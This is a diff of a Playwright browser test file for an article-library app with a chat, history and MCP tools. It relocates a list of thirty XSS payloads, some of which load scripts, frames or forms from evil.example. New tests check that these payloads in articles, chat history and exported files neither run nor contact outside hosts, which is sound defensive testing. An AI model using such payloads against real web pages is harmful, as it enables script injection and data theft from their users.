@@ -10,60 +10,33 @@ import time
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
+from typing import TYPE_CHECKING, Any
 
 import httpx
 import psutil
 import pytest
-from browsing import ARTICLES, Open, Parrot, Visit, free_port
+from browsing import ARTICLES, PAYLOADS, Open, Parrot, Visit, free_port
 from fakes import WordEmbedder
 from gradio_client import Client
 from gradio_client.exceptions import AppError
+from markdown_it import MarkdownIt
 from playwright.sync_api import Browser, Page, expect
 
 from index.errors import InputError
 from index.library import Library
 from index.reading import find
+from qa.history import answer_to_text
 from ui.page import running
 from ui.shelf import adding
+
+if TYPE_CHECKING:
+    from mcp.types import CallToolResult
 
 pytestmark = pytest.mark.browser
 pytest_plugins = ["browsing"]
 
 AXE = Path(__file__).parent.parent / ".venv" / "axe-core-4.14.1" / "axe.min.js"
 VIEWS = ("Ask", "Library", "Check", "History", "Evaluate")
-
-PAYLOADS = (
-    "<script>hacked()</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=hacked()>",
-    "<img src='https://evil.example/p.png'>",
-    '"><img src=x onerror=hacked()>',
-    "'><svg onload=hacked()>",
-    "<svg><script>hacked()</script></svg>",
-    "<svg><a xlink:href='javascript:hacked()'><text>x</text></a></svg>",
-    "<iframe src='https://evil.example/'></iframe>",
-    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
-    "<a href='javascript:hacked()'>press</a>",
-    "<a href='JaVaScRiPt&colon;hacked()' class=citation>press</a>",
-    "[press](javascript:hacked())",
-    "![pixel](https://evil.example/q.png)",
-    "![x](x 'onerror=hacked()')",
-    "<link rel=stylesheet href='https://evil.example/s.css'>",
-    "<style>@import 'https://evil.example/s.css'; body { background: url(https://evil.example/b.png) }</style>",
-    "<body onload=hacked()>",
-    "<input autofocus onfocus=hacked()>",
-    "<details open ontoggle=hacked()>",
-    "<video><source onerror=hacked()></video>",
-    "<object data='https://evil.example/o.swf'></object>",
-    "<embed src='https://evil.example/e.swf'>",
-    "<form action='https://evil.example/'><button>press</button></form>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<base href='https://evil.example/'>",
-    "<math><mtext><style><img src=x onerror=hacked()></style></mtext></math>",
-    "{{constructor.constructor('hacked()')()}}",
-    "${hacked()}",
-    "<div style='background:url(https://evil.example/b.png)' onmouseover=hacked()>over</div>",
-)
 
 
 def library_of(folder: Path, texts: dict[str, str]) -> Library:
@@ -338,23 +311,40 @@ def test_the_same_functions_are_tools_of_the_model_context_protocol(parrot: Parr
     from mcp import ClientSession
     from mcp.client.streamable_http import streamablehttp_client
 
-    async def use(address: str) -> tuple[list[str], str]:
+    calls = {
+        "ask": {"question": "Who kept the lighthouse for thirty years?"},
+        "quote": {"text": "kept the lighthouse"},
+        "search": {"question": "northern pier storm", "k": 2},
+        "article": {"id": "harbour"},
+    }
+
+    async def use(address: str) -> tuple[list[str], dict[str, Any], CallToolResult]:
         async with (
             streamablehttp_client(f"{address}gradio_api/mcp/") as (reading, writing, _),
             ClientSession(reading, writing) as session,
         ):
             await session.initialize()
             tools = [tool.name for tool in (await session.list_tools()).tools]
-            result = await session.call_tool("quote", {"text": "kept the lighthouse"})
-            return tools, result.content[0].text
+            answers = {}
+            for name, arguments in calls.items():
+                (content,) = (await session.call_tool(name, arguments)).content
+                answers[name] = json.loads(content.text)
+            return tools, answers, await session.call_tool("article", {"id": "gone"})
 
     with (
         running(parrot.library, parrot, "127.0.0.1", free_port(), mcp=True) as address,  # type: ignore[arg-type]
         ThreadPoolExecutor() as pool,  # because Playwright's loop runs in this thread
     ):
-        tools, text = pool.submit(lambda: asyncio.run(use(address))).result()
+        tools, answers, gone = pool.submit(lambda: asyncio.run(use(address))).result()
     assert sorted(tools) == ["article", "ask", "quote", "search"]
-    assert "'verdict': 'exact'" in text
+    assert answers["ask"]["answered"] is True
+    assert answers["ask"]["citations"][0]["quote"] == "Ana Ruiz kept the lighthouse for thirty years."
+    assert answers["quote"]["verdict"] == "exact"
+    assert [set(hit) for hit in answers["search"]] == [{"article", "start", "end", "text", "score"}] * 2
+    assert answers["article"]["text"] == ARTICLES["harbour.txt"]
+    assert answers["article"]["outlet"] is None
+    assert gone.isError
+    assert 'There is no article "gone" in the library' in gone.content[0].text
 
 
 # ---- strangers ----
@@ -398,13 +388,19 @@ def test_the_library_cannot_be_read_through_the_page(address: str, parrot: Parro
             assert b"SQLite format" not in answer.content
 
 
-def test_thirty_hostile_articles_neither_run_nor_load_anything(visit: Open, browser: Browser, tmp_path: Path):
+@pytest.fixture
+def poisoned(tmp_path: Path) -> Library:
+    """A library of thirty hostile articles."""
     hostile = {
         f"hostile{n:02}.md": f"---\ntitle: {json.dumps(f'Poison {n} {payload}')}\noutlet: {json.dumps(payload)}\n"
         f"url: {json.dumps('https://example.org/' + payload)}\n---\n\nPoison number{n:02} says {payload} today.\n"
         for n, payload in enumerate(PAYLOADS)
     }
-    library = library_of(tmp_path, hostile)
+    return library_of(tmp_path, hostile)
+
+
+def test_thirty_hostile_articles_neither_run_nor_load_anything(visit: Open, poisoned: Library):
+    library = poisoned
     with running(library, Parrot(library), "127.0.0.1", free_port()) as address:  # type: ignore[arg-type]
         tab = visit(at=address)
         page = tab.page
@@ -419,8 +415,6 @@ def test_thirty_hostile_articles_neither_run_nor_load_anything(visit: Open, brow
             page.click(f"#library tr[data-id=hostile{n:02}] a")
             expect(page.locator("#reader .story")).to_have_attribute("data-article", f"hostile{n:02}")
             expect(page.locator("#reader .story")).to_contain_text(f"Poison number{n:02} says")
-        show(page, "History")
-        page.wait_for_timeout(500)
         show(page, "Check")
         for payload in PAYLOADS:
             page.fill("#quotation textarea", payload + " today Poison")
@@ -431,12 +425,71 @@ def test_thirty_hostile_articles_neither_run_nor_load_anything(visit: Open, brow
         expect(page.locator("#verdicts .outcome")).to_be_visible()
         page.wait_for_timeout(300)
         assert page.evaluate("window.wasHacked") is None
-        parts = ":is(#chat, #reader, #library, #card, #found, #verdicts, #history)"
+        parts = ":is(#chat, #reader, #library, #card, #found, #verdicts)"
         forbidden = ":is(script, iframe, object, embed, video, base, meta, link, svg script, [onerror], [onload])"
         assert page.locator(f"{parts} .html-container {forbidden}").count() == 0
         links = page.locator(f"{parts} a").evaluate_all("links => links.map(link => link.protocol)")
         assert set(links) <= {"http:", "https:"}
     assert tab.outside == []
+
+
+def test_hostile_articles_do_no_harm_in_the_history_nor_in_what_is_saved_of_it(
+    visit: Open, poisoned: Library, tmp_path: Path
+):
+    parrot, kept = Parrot(poisoned), poisoned.conversations
+    for payload in PAYLOADS:
+        kept.ask(None, payload)
+    talk = None
+    for n, payload in enumerate(PAYLOADS):
+        talk, turn = kept.ask(talk, f"What does Poison number{n:02} say of {payload}?")
+        refused = "refuse " if n % 2 else ""
+        kept.save(turn, "done", answer_to_text(parrot.answer(f"{refused}number{n:02} {payload}")))
+    kept.rename(talk, f"All {' '.join(PAYLOADS)}")
+    with running(poisoned, parrot, "127.0.0.1", free_port()) as address:  # type: ignore[arg-type]
+        tab = visit(at=address)
+        page = tab.page
+        page.evaluate("() => { window.hacked = () => { window.wasHacked = true } }")
+        show(page, "History")
+        expect(page.locator(".past")).to_have_count(len(PAYLOADS) + 1)
+        names = page.locator("a.conversation").all_text_contents()
+        assert all(any(" ".join(payload.split())[:20] in name for name in names) for payload in PAYLOADS)
+        whole = page.locator(".past").first
+        files = []
+        for button in ("html", "md"):
+            with page.expect_download() as download:
+                whole.locator(f".tool.{button}").click()
+            files.append(tmp_path / f"saved.{button}")
+            download.value.save_as(files[-1])
+        whole.locator(".rename").click()
+        page.keyboard.press("Escape")
+        page.fill("#history-search input", "onerror")
+        expect(page.locator(".past")).not_to_have_count(len(PAYLOADS) + 1)
+        page.locator("a.conversation").first.click()
+        expect(page.locator(".turn")).to_have_count(len(PAYLOADS))
+        page.wait_for_timeout(300)
+        assert page.evaluate("window.wasHacked") is None
+        assert (
+            page.locator(":is(#chat, #history) .html-container :is(script, iframe, img, svg script, base)").count() == 0
+        )
+
+    saved, markdown = (file.read_text(encoding="utf-8") for file in files)
+    for name, text in [("html", saved), ("markdown", MarkdownIt("commonmark", {"html": True}).render(markdown))]:
+        (tmp_path / f"{name}.html").write_text(text, encoding="utf-8")
+        requests: list[str] = []
+        page = tab.page.context.new_page()
+        page.add_init_script("window.hacked = () => { window.wasHacked = true }")
+        page.on("request", lambda request, to=requests: to.append(request.url))
+        page.on("dialog", lambda dialog, to=requests: to.append(f"dialog {dialog.message}"))
+        page.goto(f"file://{tmp_path / name}.html")
+        page.wait_for_timeout(300)
+        assert requests == [f"file://{tmp_path / name}.html"]
+        assert page.evaluate("window.wasHacked") is None
+        assert page.locator("script, img, iframe, object, embed, video, svg, form, input, base, link").count() == 0
+        links = page.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
+        assert not [link for link in links if not link.startswith("#quotation-")]
+        shown = " ".join(page.locator("body").inner_text().split())
+        assert not [payload for payload in PAYLOADS if " ".join(payload.split()) not in shown]
+        page.close()
 
 
 def test_nothing_leaves_the_machine(visit: Open, address: str):
